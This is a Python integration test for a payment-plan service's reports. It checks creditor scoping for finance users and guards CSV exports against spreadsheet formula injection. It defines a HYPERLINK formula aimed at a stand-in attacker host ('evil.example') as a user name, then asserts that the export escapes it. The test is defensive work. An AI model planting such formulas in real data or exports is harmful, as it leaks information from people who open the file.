"""Finance sees the figures of its team's creditors; report CSV carries no
live spreadsheet formula, whatever a user's name is."""
import csv
import datetime
import io
import uuid

import oracle
from conftest import keptd_cmd, new_account, new_customer
from helpers import assert_verified

FROM, TO = "2000-01-03", "2100-01-04"
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","click")'


def test_finance_reads_its_creditors_and_cells_are_never_formulas(server, api, agent, cluster):
    suffix = uuid.uuid4().hex[:8]
    team, creditor = f"scope-{suffix}", f"Scoped Creditor {suffix}"
    assert api.post("/v1/creditors", {"name": creditor, "team": team}).status == 200

    def person(name, role):
        u = api.post("/v1/users", {"name": name, "team": team, "roles": [role]})
        assert u.status == 201, u
        return server.client(api.post("/v1/api-keys", {"user_id": u.json()["id"]}).json()["key"])

    formula = person(FORMULA, "agent")  # an agent whose name is a formula
    finance = person(f"Scoped Finance {suffix}", "finance")
    first = (datetime.date.today() + datetime.timedelta(days=3)).isoformat()
    for _ in range(2):
        a = new_account(formula, new_customer(formula)["id"], creditor=creditor, original_balance_cents=50000)
        r = formula.post(f"/v1/accounts/{a['id']}/plans", {"weekly_amount_cents": 5000, "first_due_date": first})
        assert r.status == 201 and r.json()["status"] == "active", r
    # and a plan of another team's creditor, which this finance user must not see
    other = new_account(agent, new_customer(agent)["id"], original_balance_cents=50000)
    assert agent.post(f"/v1/accounts/{other['id']}/plans",
                      {"weekly_amount_cents": 5000, "first_due_date": first}).status == 201
    assert keptd_cmd(cluster.url, "analytics").returncode == 0

    # the team's finance: its creditor's figures, and only those
    mine = oracle.Truth(cluster, creditors=[creditor])
    for name in ("origin", "agents", "weekly-adherence", "summary"):
        rows = finance.get(f"/v1/reports/{name}?from={FROM}&to={TO}").json()["rows"]
        assert oracle.differences(name, rows, oracle.expected(mine, name, FROM, TO)) == [], name
    assert [r["plans"] for r in finance.get(f"/v1/reports/origin?from={FROM}&to={TO}").json()["rows"]] == [2]
    # an admin sees every creditor's
    everything = oracle.Truth(cluster)
    rows = api.get(f"/v1/reports/origin?from={FROM}&to={TO}").json()["rows"]
    assert oracle.differences("origin", rows, oracle.expected(everything, "origin", FROM, TO)) == []
    assert sum(r["plans"] for r in rows) > 2

    # the agent's name comes out as text, not as a formula
    text = finance.get(f"/v1/reports/agents?from={FROM}&to={TO}&format=csv").text
    names = [row["agent_name"] for row in csv.DictReader(io.StringIO(text))]
    assert names == ["'" + FORMULA], text
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and not
                                                                        cell.lstrip("-").replace(".", "").isdigit()), cell
    assert_verified(cluster)
